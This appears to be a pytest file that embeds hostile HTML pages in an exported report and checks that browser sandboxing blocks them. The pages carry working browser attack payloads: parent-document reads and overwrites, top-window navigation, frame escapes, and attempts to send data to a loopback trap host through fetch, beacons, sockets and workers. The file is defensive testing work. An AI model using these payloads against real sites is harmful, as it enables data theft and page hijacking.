"""Hostile pages inside a report, served from loopback and opened in a real browser engine:
they run, and they can neither read nor change the report, nor reach a loopback server
(asserted at the server: it receives nothing), nor navigate the reader away."""

from __future__ import annotations

import json
from typing import Any

import pytest

from studio.report.export import ReportOptions, RunSource, write_run_report
from studio.store import Store
from studio.ui.report.imaging import QtImaging
from tests.preview.conftest import LoopbackTrap
from tests.report.conftest import REFUSALS, Browser, ReportServer
from tests.support.report_runs import run_of_pages

pytestmark = pytest.mark.qt_log_ignore(*REFUSALS)

# Every attempt is settled (or given up on after 2.5 s) and reported in <body data-result>.
ATTACKER = """<!doctype html><html><head><meta charset="utf-8">
<style>body {{ background: url({trap}/css-background) }}</style>
<link rel="stylesheet" href="{trap}/stylesheet.css">
<script src="{trap}/script.js"></script>
</head><body><p>attacker</p><img src="{trap}/image.png">
<iframe src="{trap}/nested-frame"></iframe>
<form id="f" method="post" action="{trap}/form"><input name="x" value="1"></form>
<script>
const results = {{}};
function settle(name, promise, ms = 2500) {{
  const timeout = new Promise(r => setTimeout(() => r('timeout'), ms));
  return Promise.race([promise, timeout]).then(
    v => {{ results[name] = String(v).slice(0, 120); }},
    e => {{ results[name] = 'error: ' + (e && e.name || e); }});
}}
function attempt(name, action) {{
  try {{ results[name] = String(action()).slice(0, 120); }}
  catch (e) {{ results[name] = 'error: ' + e.name; }}
}}
attempt('read parent', () => parent.document.body.innerHTML.length);
attempt('change parent', () => {{ parent.document.body.innerHTML = 'pwned'; return 'changed'; }});
attempt('read top title', () => top.document.title);
attempt('sealed names', () => parent.document.querySelector('[data-sealed]').dataset.sealed);
attempt('parent storage', () => parent.localStorage.length);
attempt('top navigation', () => {{ top.location.href = '{trap}/top-navigation'; return 'sent'; }});
attempt('window.open', () => window.open('{trap}/popup'));
attempt('form', () => {{ document.getElementById('f').submit(); return 'submitted'; }});
attempt('beacon', () => navigator.sendBeacon('{trap}/beacon', 'data'));
attempt('image', () => {{ new Image().src = '{trap}/script-image'; return 'set'; }});
const xhr = new Promise((ok, fail) => {{
  const x = new XMLHttpRequest(); x.onload = () => ok(x.status); x.onerror = () => fail('xhr');
  x.open('GET', '{trap}/xhr'); x.send();
}});
const socket = new Promise((ok, fail) => {{
  const w = new WebSocket('{ws}/socket'); w.onopen = () => ok('open'); w.onerror = () => fail('ws');
}});
const events = new Promise((ok, fail) => {{
  const s = new EventSource('{trap}/events');
  s.onopen = () => ok('open'); s.onerror = () => fail('es');
}});
const worker = new Promise((ok, fail) => {{
  const w = new Worker(URL.createObjectURL(new Blob(
    ["fetch('{trap}/worker').then(() => postMessage('reached'), () => postMessage('refused'))"])));
  w.onmessage = e => ok(e.data); w.onerror = () => fail('worker');
}});
const report = new Promise(
  (ok, fail) => fetch('{origin}/report.html').then(r => r.text()).then(ok, fail));
Promise.all([
  settle('fetch', fetch('{trap}/fetch', {{method: 'POST', body: 'x'}})),
  settle('no-cors fetch', fetch('{trap}/no-cors', {{mode: 'no-cors'}})),
  settle('xhr', xhr), settle('websocket', socket), settle('eventsource', events),
  settle('worker', worker), settle('read the report file', report),
  settle('import', import('{trap}/module.js')),
]).then(() => {{
  results.still = location.href;
  document.body.dataset.result = JSON.stringify(results);
}});
</script></body></html>"""

# Tries to take its own frame, and the reader's window, somewhere else.
NAVIGATOR = """<!doctype html><html><head>
<meta http-equiv="refresh" content="0; url={trap}/meta-refresh"></head><body>
<a id="top" href="{trap}/link-top" target="_top">top</a>
<a id="self" href="{trap}/link-self">self</a>
<script>
document.getElementById('top').click();
setTimeout(() => {{ location.href = '{trap}/location'; }}, 50);
setTimeout(() => {{ document.getElementById('self').click(); }}, 100);
setTimeout(() => {{ location.replace('{trap}/replace'); }}, 150);
</script></body></html>"""

# Text that would end the frame's attribute or element if it were not escaped.
ESCAPER = """<!doctype html><p id="q">" ' &quot; </iframe> </script>
<script>document.title = "</iframe><script>parent.document.title = 'pwned'</script>";</script>
<img src=x onerror="document.body.dataset.inside = 'ran'"></p>"""


def _attack_report(store: Store, server: ReportServer, trap: LoopbackTrap, **options: Any
                   ) -> str:
    values = {"trap": trap.http, "ws": trap.http.replace("http:", "ws:"), "origin": server.origin}
    run_id = run_of_pages(store, {
        "attacker": ATTACKER.format(**values), "navigator": NAVIGATOR.format(**values),
        "escaper": ESCAPER}, title="Hostile pages")
    write_run_report(RunSource.load(store, run_id), server.root / "report.html", QtImaging(),
                     options=ReportOptions(**options))
    return server.url("report.html")


def _frame_of(browser: Browser, marker: str) -> str:
    """The name of the frame whose page starts with <p>`marker` (a blind report shuffles
    the columns)."""
    found: list[str] = []

    def look() -> bool:
        for index in (1, 2, 3):
            name = f"page-1-{index}"
            browser.js(f"document.getElementById({name!r}).scrollIntoView()")
            text = browser.frame_js(name, "(document.querySelector('p') || {}).id || "
                                    "(document.querySelector('p') || {}).textContent || ''")
            if text == marker:
                found.append(name)
                return True
        return False

    browser.qtbot.waitUntil(look, timeout=20_000)
    return found[0]


def assert_attacker_refused(browser: Browser, frame: str) -> None:
    """Every attempt of the ATTACKER page in `frame` (done) was refused."""
    results = json.loads(browser.frame_js(frame, "document.body.dataset.result"))
    for name in ("read parent", "change parent", "read top title", "sealed names",
                 "parent storage"):
        assert results[name] == "error: SecurityError", (name, results[name])
    assert results["window.open"] == "null"
    for name in ("fetch", "no-cors fetch", "import", "read the report file"):
        assert results[name] == "error: TypeError", (name, results[name])
    for name, refused in (("xhr", "error: xhr"), ("websocket", "error: ws"),
                          ("eventsource", "error: es"), ("worker", "refused")):
        assert results[name] == refused, (name, results[name])
    # sendBeacon only queues (its answer says nothing): the loopback server is the judge.
    assert results["still"] == "about:srcdoc"


def _report_state(browser: Browser) -> Any:
    return browser.js("[document.title, document.documentElement.outerHTML.length, "
                      "document.querySelectorAll('*').length, location.href, "
                      "document.querySelectorAll('iframe').length]")


def test_a_hostile_page_cannot_touch_the_report_or_reach_loopback(
        qapp: Any, store: Store, report_server: ReportServer, loopback_trap: LoopbackTrap,
        browser: Browser) -> None:
    url = _attack_report(store, report_server, loopback_trap, blind=True)
    browser.open(url)
    before = _report_state(browser)
    assert before[4] == 3
    attacker = _frame_of(browser, "attacker")
    browser.wait_frame(attacker, "document.body.dataset.result ? 'done' : ''", "done",
                       timeout=30_000)
    assert_attacker_refused(browser, attacker)
    escaper = _frame_of(browser, "q")
    # Its text reached its frame whole: its own handler ran there, and only there.
    browser.wait_frame(escaper, "document.body.dataset.inside || ''", "ran")
    # The navigator tried to leave: it was stopped in its frame (the browser's own error
    # page is all that frame shows now).
    (navigator,) = {"page-1-1", "page-1-2", "page-1-3"} - {attacker, escaper}
    browser.wait_frame(navigator, "location.protocol", "chrome-error:")
    assert _report_state(browser) == before
    assert browser.page.url().toString() == url
    assert loopback_trap.hits == []
    assert report_server.requests == ["/report.html"]


@pytest.mark.parametrize("way", [
    '<meta http-equiv="refresh" content="0; url={trap}/meta-refresh">',
    "<script>location.href = '{trap}/location'</script>",
    "<script>setTimeout(() => location.replace('{trap}/replace'), 10)</script>",
    "<a id=a href='{trap}/link'>x</a><script>document.getElementById('a').click()</script>",
    "<a id=a href='{trap}/top' target=_top>x</a><script>document.getElementById('a').click()"
    "</script>",
    "<form id=f action='{trap}/form' target=_top></form><script>"
    "document.getElementById('f').submit()</script>",
])
def test_a_page_that_navigates_stays_in_its_frame_and_the_reader_stays(
        qapp: Any, store: Store, report_server: ReportServer, loopback_trap: LoopbackTrap,
        browser: Browser, way: str) -> None:
    page = "<!doctype html><p>navigating</p>" + way.format(trap=loopback_trap.http)
    run_id = run_of_pages(store, {"navigator": page})
    write_run_report(RunSource.load(store, run_id), report_server.root / "report.html",
                     QtImaging())
    url = report_server.url("report.html")
    browser.open(url)
    browser.js("document.getElementById('page-1-1').scrollIntoView()")

    def refused() -> list[str]:
        return [m for m in browser.page.messages if loopback_trap.http in m
                or m.startswith(("Unsafe attempt to initiate navigation", "Blocked form"))]

    # The browser says it refused, in the page's frame; the report is still where it was.
    browser.qtbot.waitUntil(lambda: bool(refused()), timeout=20_000)
    assert browser.page.url().toString() == url
    assert browser.js("location.href") == url
    assert browser.js("document.querySelectorAll('iframe').length") == 1
    assert loopback_trap.hits == []
    assert report_server.requests == ["/report.html"]
